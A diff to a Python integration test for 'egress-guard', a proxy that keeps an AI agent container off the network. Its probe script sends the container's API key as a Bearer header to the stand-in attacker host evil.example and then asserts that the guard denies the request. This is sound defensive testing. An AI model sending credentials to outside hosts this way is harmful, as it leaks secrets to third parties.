@@ -4,7 +4,8 @@ entrance, a real TLS upstream on loopback and the openai SDK inside the containe
 
 The agent container has `network_mode: none`: only the socket (mounted, as compose.yaml
 shares it) leads out, and it leads to egress-guard. `egress-guard kill` SIGKILLs labelled
-containers within a second. Skipped — loudly — only where no Docker engine can be started.
+containers within a second. containers/compose.yaml runs as written (images built from
+containers/). Skipped — loudly — only where no Docker engine can be started.
 """
 
 from __future__ import annotations
@@ -286,3 +287,77 @@ def test_compose_file_is_valid_and_keeps_the_agent_off_the_network() -> None:
     assert agent["labels"]["egress-guard.agent"] == "agent" and agent["init"] is True
     assert not any("egress-data" in str(v) for v in agent.get("volumes", [])), "the agent never mounts /data"
     assert "OPENAI_API_KEY" not in agent.get("environment", {})
+
+
+COMPOSE_PROBE = r"""
+import os, socket, urllib.request, urllib.error
+print("interfaces", sorted(os.listdir("/sys/class/net")), "uid", os.getuid())
+try:
+    socket.create_connection(("192.0.2.1", 443), 3)
+    print("direct: connected")
+except OSError as e:
+    print("direct: errno", e.errno)
+print("fake key", os.environ.get("OPENAI_API_KEY", "")[:8], "agent", os.environ.get("EGRESS_GUARD_AGENT"))
+for url in ("https://evil.example/", "https://api.openai.com/v1/models"):
+    req = urllib.request.Request(url, headers={"Authorization": "Bearer " + os.environ.get("OPENAI_API_KEY", "")})
+    try:
+        print(url, "status", urllib.request.urlopen(req, timeout=30).status)
+    except urllib.error.HTTPError as e:
+        print(url, "HTTP", e.code)
+    except OSError as e:
+        print(url, "error", e)
+"""
+
+
+def test_compose_file_runs_agent_without_network_through_egress_guard(engine: Dockerd, tmp_path: Path) -> None:
+    """containers/compose.yaml itself, on the private engine: the egress-guard image built from
+    containers/Dockerfile (offline wheelhouse, local base), the agent image from
+    containers/agent/; the agent's requests reach egress-guard through the shared socket."""
+    from docker_support import BASE_IMAGE, egress_guard_context
+
+    started = time.monotonic()
+    context = egress_guard_context(tmp_path / "context")
+    engine.docker(
+        "build", "-q", "--build-arg", f"BASE={BASE_IMAGE}",
+        "--build-arg", "PIP_ARGS=--no-index --find-links /src/containers/wheelhouse",
+        "-f", str(context / "containers" / "Dockerfile"), "-t", "egress-guard", str(context), timeout=300,
+    )  # fmt: skip
+    shutil.rmtree(context)  # the wheels: not worth keeping (nor scanning for secrets) in tmp
+    engine.docker("tag", AGENT_IMAGE, "egress-guard-agent")
+    engine.timings["egress-guard image build"] = time.monotonic() - started
+    (tmp_path / "override.yaml").write_text(
+        yaml.safe_dump({"version": "3.8", "services": {"agent": {"command": ["python3", "-c", COMPOSE_PROBE]}}})
+    )
+    compose = [
+        "docker-compose", "-p", "egtest", "-f", str(REPO / "containers" / "compose.yaml"),
+        "-f", str(tmp_path / "override.yaml"),
+    ]  # fmt: skip
+    env = {**engine.env, "OPENAI_API_KEY": ""}
+
+    def run(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
+        return subprocess.run([*compose, *args], env=env, capture_output=True, text=True, timeout=timeout)
+
+    try:
+        started = time.monotonic()
+        up = run("up", "-d")
+        assert up.returncode == 0, up.stderr[-2000:]
+        agent = run("ps", "-q", "agent").stdout.strip()
+        assert engine.docker("wait", agent, timeout=90).stdout.strip() == "0"
+        engine.timings["compose up until the agent is done"] = time.monotonic() - started
+        out = engine.docker("logs", agent).stdout
+        log(f"compose agent: {out.strip()}")
+        audit = run("exec", "-T", "egress-guard", "egress-guard", "audit", "--config", "/data/egress-guard.yaml", "--format", "json")  # fmt: skip
+        rows = json.loads(audit.stdout)
+        log(f"compose audit: {[(r['host'], r['decision'], r['status'], r['agent'], r['reason']) for r in rows]}")
+        assert "interfaces ['lo'] uid 10002" in out and "direct: errno 101" in out
+        assert "agent agent" in out and "fake key sk-" in out
+        assert "Tunnel connection failed: 403" in out  # evil.example: egress-guard refused it
+        # api.openai.com: TLS with egress-guard's CA (shared next to the socket), the fake key
+        # names the agent; the test engine has no way out, so egress-guard cannot resolve it
+        assert "https://api.openai.com/v1/models HTTP 403" in out
+        assert any(r["host"] == "evil.example" and r["decision"] == "deny" for r in rows), rows
+        assert any(
+            r["host"] == "api.openai.com" and r["agent"] == "agent" and "does not resolve" in r["reason"] for r in rows
+        ), rows
+    finally:
+        run("down", "-v", "-t", "5")
